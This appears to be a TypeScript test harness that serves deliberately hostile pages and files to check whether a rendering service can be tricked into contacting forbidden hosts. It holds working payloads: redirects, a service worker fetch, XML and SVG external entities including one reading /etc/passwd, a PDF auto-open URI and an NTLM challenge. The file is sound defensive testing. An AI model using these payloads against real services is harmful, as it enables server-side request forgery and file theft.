import { startSite, type Handler, type Site } from './site.ts';
import type { WayOut } from './ways-out.ts';

/** A page that tries ways out to each target. */
export function escapePage(title: string, ways: readonly WayOut[], targets: readonly string[]): string {
  const parts = ways.flatMap(({ body, script }, index) =>
    targets.flatMap((target) => [
      body?.(target) ?? '',
      script === undefined ? '' : `<script>try { (() => { ${script(target)} })(); } catch {}</script>`,
      index === ways.length - 1 ? `<p>Tried ${title}</p>` : '',
    ]),
  );
  return hostilePage(title, parts.join('\n'));
}

export function hostilePage(title: string, body: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile: ${title}</title></head><body>
<h1>${title}</h1><p>${'Nothing good can come of this. '.repeat(40)}</p>${body}</body></html>`;
}

/** What files contain that a page makes its browser download. */
export const downloadContent = 'a file that nobody asked for';

const send =
  (type: string, body: (to: string) => string, headers: Readonly<Record<string, string>> = {}): Handler =>
  (request, response) =>
    response.writeHead(200, { 'content-type': type, ...headers }).end(body(parameter(request.url, 'to')));

/** Files that the pages use; those about another place get it as the parameter `to`. */
const files: Readonly<Record<string, Handler>> = {
  '/redirect': (request, response) =>
    response
      .writeHead(Number(parameter(request.url, 'status')), { location: parameter(request.url, 'to') })
      .end(),
  '/refresh': (request, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html', refresh: `0; url=${parameter(request.url, 'to')}` })
      .end(),
  '/early-hints': (request, response) => {
    response.writeEarlyHints({
      link: `<http://${parameter(request.url, 'to')}/hint>; rel=preload; as=script`,
    });
    response.writeHead(200, { 'content-type': 'text/html' }).end('<p>Hinted</p>');
  },
  '/login': (_request, response) =>
    response
      .writeHead(401, { 'content-type': 'text/html', 'www-authenticate': 'Basic realm="x", Negotiate, NTLM' })
      .end('<p>Log in</p>'),
  '/sw.js': send('text/javascript', (to) => `fetch(${JSON.stringify(to)}, { mode: 'no-cors' });`),
  '/a.xml': send(
    'application/xml',
    (to) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://${to}/a.xsl"?>
<!DOCTYPE a SYSTEM "http://${to}/a.dtd" [<!ENTITY b SYSTEM "http://${to}/entity"><!ENTITY c SYSTEM "file:///etc/passwd">]><a>&b;&c;</a>`,
  ),
  '/a.svg': send(
    'image/svg+xml',
    (to) =>
      `<!DOCTYPE svg [<!ENTITY b SYSTEM "http://${to}/svg-entity">]><svg xmlns="http://www.w3.org/2000/svg"><image href="http://${to}/svg-inner"/><text>&b;</text></svg>`,
  ),
  '/a.pdf': send(
    'application/pdf',
    (to) =>
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://${to}/pdf)>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  ),
  '/download': send('application/octet-stream', () => downloadContent, {
    'content-disposition': 'attachment; filename="hostile-download"',
  }),
};

/** A site on an address that the service may connect to, with the given pages. */
export function startHostileSite(pages: Readonly<Record<string, Handler>>, host: string): Promise<Site> {
  return startSite({ ...files, ...pages }, { host });
}

function parameter(url = '', name: string): string {
  return new URL(url, 'http://host').searchParams.get(name) ?? '';
}
